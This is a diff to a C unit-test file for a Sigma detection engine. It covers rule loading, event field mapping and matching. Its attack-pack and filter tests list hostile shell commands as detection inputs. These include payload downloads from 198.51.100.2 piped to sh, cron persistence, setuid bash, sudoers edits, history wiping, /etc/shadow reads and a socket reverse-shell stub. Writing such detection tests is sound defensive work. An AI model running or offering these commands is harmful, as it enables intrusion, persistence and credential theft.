@@ -48,7 +48,7 @@ static sigma_event_view view_of(kv *e, const char *const *pairs, int n) {
 
 static const char *HEAD =
     "title: t\nid: 11111111-2222-3333-4444-555555555555\nstatus: test\nlevel: high\n"
-    "tags:\n  - attack.execution\n  - attack.t1059.004\n"
+    "tags:\n  - attack.execution\n  - attack.t1059.004\n  - attack.g0032\n  - attack.s0154\n  - cve.2021-44228\n"
     "logsource:\n  product: linux\n  category: process_creation\n";
 
 /* Load HEAD + "detection:\n" + DET; assert exactly one rule loaded. */
@@ -634,6 +634,19 @@ static void test_dir_load(void **state) {
     assert_int_equal(sigma_skip_count(rs), 1);
     assert_non_null(strstr(sigma_skip_at(rs, 0)->file, "b_bad.yml"));
     assert_non_null(strstr(sigma_skip_at(rs, 0)->reason, "YAML error at line 4"));
+    /* A file past the size bound is a skip with the reason. */
+    snprintf(p, sizeof p, "%s/sub/huge.yml", dir);
+    FILE *big = fopen(p, "w");
+    assert_non_null(big);
+    for (int i = 0; i < (1 << 20) / 16 + 1; i++) fputs("# padding line.\n", big);
+    fclose(big);
+    sigma_rules *rs3 = sigma_rules_new(&err);
+    assert_int_equal(sigma_load_path(rs3, dir), 2);
+    assert_int_equal(sigma_skip_count(rs3), 2);
+    assert_non_null(strstr(sigma_skip_at(rs3, 1)->reason, "larger than"));
+    sigma_rules_free(rs3);
+    unlink(p);
+
     /* A link back to a parent is a skip, not a second copy of every rule. */
     snprintf(p, sizeof p, "%s/sub/loop", dir);
     assert_int_equal(symlink("..", p), 0);
@@ -719,6 +732,63 @@ static void test_canonical_event(void **state) {
     assert_string_equal(h[0].title, "file");
     json_decref(ev);
 
+    /* Field by field through the accessor: fallbacks and derived values. */
+    ev = json_loads("{\"v\":1,\"id\":\"x\",\"kind\":\"network\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
+                    "\"process\":{\"path\":\"/opt/tools/a-very-long-program-name\",\"argv\":[\"x\"]},"
+                    "\"parent\":{\"pid\":77},\"network\":{\"direction\":\"inbound\"},"
+                    "\"raw\":\"type=SYSCALL msg=audit(1.2:3): key=(null)\"}", 0, &je);
+    assert_non_null(ev);
+    sigma_view_from_event(&v, &ctx, ev);
+    size_t len;
+    const char *val = v.get(v.ctx, "ParentProcessId", &len);
+    assert_non_null(val);
+    assert_string_equal(val, "77");                              /* parent.pid fallback */
+    val = v.get(v.ctx, "comm", &len);
+    assert_non_null(val);
+    assert_int_equal(len, 15);                                   /* cut as the kernel does */
+    assert_memory_equal(val, "a-very-long-pro", 15);
+    val = v.get(v.ctx, "Initiated", &len);
+    assert_non_null(val);
+    assert_string_equal(val, "false");
+    assert_null(v.get(v.ctx, "key", &len));                      /* (null) is absent */
+    assert_null(v.get(v.ctx, "a1", &len));
+    assert_null(v.get(v.ctx, "a-1", &len));
+    assert_null(v.get(v.ctx, "User", &len));
+    val = v.get(v.ctx, "type", &len);
+    assert_string_equal(val, "SYSCALL");
+    assert_string_equal(v.category, "network_connection");
+    json_decref(ev);
+
+    /* sigma_match_event: an auditd exec event meets rules of both record
+     * types; each rule once. */
+    {
+        const char *two =
+            "title: exec rec\nlogsource:\n  product: linux\n  service: auditd\n"
+            "detection:\n  s:\n    type: EXECVE\n    a0: id\n  condition: s\n"
+            "---\n"
+            "title: syscall rec\nlogsource:\n  product: linux\n  service: auditd\n"
+            "detection:\n  s:\n    type: SYSCALL\n    SYSCALL: execve\n    euid: 33\n    a0: null\n  condition: s\n"
+            "---\n"
+            "title: either\nlogsource:\n  product: linux\n  service: auditd\n"
+            "detection:\n  s:\n    exe|endswith: /id\n  condition: s\n"
+            "---\n"
+            "title: pc\nlogsource:\n  product: linux\n  category: process_creation\n"
+            "detection:\n  s:\n    Image|endswith: /id\n  condition: s\n";
+        sigma_rules *r2 = sigma_rules_new(&err);
+        assert_int_equal(sigma_load_text(r2, "two.yml", two, strlen(two)), 4);
+        ev = json_loads("{\"v\":1,\"id\":\"a\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"auditd\"},"
+                        "\"user\":{\"uid\":33,\"euid\":33},\"process\":{\"path\":\"/usr/bin/id\",\"argv\":[\"id\"]}}", 0, &je);
+        assert_non_null(ev);
+        sigma_view_from_event(&v, &ctx, ev);
+        assert_int_equal(sigma_match(r2, &v, h, 4), 3);              /* EXECVE view alone */
+        assert_int_equal(sigma_match_event(r2, ev, h, 4), 4);        /* both records */
+        for (int i = 0; i < 4; i++) assert_int_equal(h[i].rule, i);  /* each once, load order */
+        assert_int_equal(sigma_match_event(r2, ev, h, 2), 4);        /* max limits writing only */
+        assert_int_equal(h[1].rule, 1);
+        json_decref(ev);
+        sigma_rules_free(r2);
+    }
+
     /* A bare command line: no OS, no service; argv-less is fine. */
     ev = json_loads("{\"v\":1,\"id\":\"cmdline:1\",\"kind\":\"exec\",\"time\":\"t\",\"source\":{\"format\":\"cmdline\"},"
                     "\"process\":{\"cmdline\":\"curl x | sh\"}}", 0, &je);
@@ -779,7 +849,7 @@ static void test_pack_benign(void **state) {
         "tccutil reset Camera com.example.meet", "dscl . -read /Users/alice", "dscl . -list /Users",
         "security find-certificate -a -p", "osascript -e 'display notification \"build done\"'",
         "osascript -e 'tell application \"Finder\" to activate'", "modprobe nvidia", "dmesg | tail -20",
-        "history | grep ssh", "rm -rf node_modules", "truncate -s 0 app.log", "journalctl --vacuum-time=2d",
+        "history | grep ssh", "history -c", "rm -rf node_modules", "truncate -s 0 app.log", "journalctl --vacuum-time=2d",
         "docker run -v $(pwd):/src -w /src gcc:13 make", "LD_LIBRARY_PATH=/opt/lib ./app", "env FOO=bar make test",
         "nohup ./server.sh > server.log 2>&1 &", "xargs -n1 echo < list.txt", "strace -f -o trace.log ./app",
         "git clone https://github.com/example/project.git", "tar czf backup.tgz /home/alice/docs",
@@ -830,6 +900,7 @@ static void test_pack_attacks(void **state) {
         {"wget -q http://198.51.100.2/y -O /tmp/y && chmod +x /tmp/y && /tmp/y", SIGMA_HIGH},
         {"echo ZWNobyBoaQ== | base64 -d | sh", SIGMA_CRITICAL},
         {"unset HISTFILE", SIGMA_HIGH},
+        {"history -c && kill -9 $$", SIGMA_HIGH},
         {"echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", SIGMA_HIGH},
         {"chmod u+s /bin/bash", SIGMA_CRITICAL},
         {"(crontab -l; echo '* * * * * curl -s http://198.51.100.2/p | sh') | crontab -", SIGMA_HIGH},
@@ -849,7 +920,7 @@ static void test_pack_attacks(void **state) {
         {"iptables -F", SIGMA_MEDIUM},
         {"chattr -i /etc/passwd", SIGMA_HIGH},
         {"insmod /tmp/.x/rk.ko", SIGMA_CRITICAL},
-        {"find . -exec /bin/sh \\; -quit", SIGMA_MEDIUM},
+        {"find /var -maxdepth 0 -exec /bin/bash -p \\;", SIGMA_MEDIUM},
         {"vim -c ':!/bin/sh'", SIGMA_HIGH},
         {"echo '[Service]' > /etc/systemd/system/updater.service", SIGMA_MEDIUM},
         {"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", SIGMA_HIGH},
@@ -900,7 +971,7 @@ static void test_filters_equivalent(void **state) {
         "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1))'",
         "curl -s http://198.51.100.2/x.sh | bash", "chmod u+s /bin/bash", "sh -c 'echo hi' 2>&1",
         "docker run --rm -it --entrypoint /bin/sh alpine:3.19", "security dump-keychain -d login.keychain",
-        "find . -exec /bin/sh \\; -quit", "vim -c ':!/bin/sh'", "echo ZWNobyBoaQ== | base64 -d | sh",
+        "find /var -maxdepth 0 -exec /bin/bash -p \\;", "vim -c ':!/bin/sh'", "echo ZWNobyBoaQ== | base64 -d | sh",
         "LD_PRELOAD=/tmp/libhook.so /usr/bin/passwd", "cat /etc/shadow", "iptables -F", "n",
     };
     int err;
